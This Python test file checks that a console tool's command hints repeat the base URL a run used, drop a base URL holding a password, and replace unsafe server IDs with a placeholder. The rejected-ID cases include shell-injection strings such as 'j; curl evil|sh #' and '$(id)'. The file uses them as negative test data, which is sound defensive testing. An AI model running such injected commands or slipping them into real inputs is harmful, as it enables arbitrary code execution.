"""Hints can be typed as they stand, and repeat no secret."""

from __future__ import annotations

import sys

import pytest

from console.hints import called
from console.text import plain_id


def typed(monkeypatch: pytest.MonkeyPatch, *words: str) -> str:
    monkeypatch.setattr(sys, "argv", ["scripts/lgp.py", *words])
    return called("{lgp} leads list")


@pytest.mark.parametrize("words", [("--base-url", "https://x.example"), ("--base-url=https://x.example",)])
def test_a_hint_goes_where_this_run_went(monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]) -> None:
    assert typed(monkeypatch, *words) == "python3 scripts/lgp.py --base-url https://x.example leads list"


@pytest.mark.parametrize("words", [("--base-url", "https://me:pass@x"), ("--base-url=https://me:pass@x",)])
def test_a_password_in_the_base_url_is_not_repeated(monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]) -> None:
    assert typed(monkeypatch, *words) == "python3 scripts/lgp.py leads list"


def test_only_what_stands_in_the_text_is_filled_in_and_nothing_inside_of_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "argv", ["scripts/lgp.py", "--base-url", "https://{api_call}{lgp}"])
    base = " --base-url 'https://{api_call}{lgp}'"
    assert called("{lgp} x or {api_call} y") == f"python3 scripts/lgp.py{base} x or python3 scripts/api_call.py{base} y"


@pytest.mark.parametrize("name", ["job_1", "a", "A.b:c-9", "3f2b8c1e-9d4a-4e7b-8a61-5c0d2e9f7b34", "x" * 128])
def test_a_plain_id_can_be_typed_as_it_is(name: str) -> None:
    assert plain_id(name) == name


@pytest.mark.parametrize(
    "name",
    [
        "",
        "j; curl evil|sh #",
        "$(id)",
        "a b",
        "{lgp}",
        "-",
        "--yes",
        "j\n",
        "j\u200b",
        "é",
        "x" * 129,
        "'j'",
        "a/b",
        "..",
        ".",
    ],
)
def test_any_other_id_of_a_server_is_no_part_of_a_command(name: str) -> None:
    assert plain_id(name) == "ID"
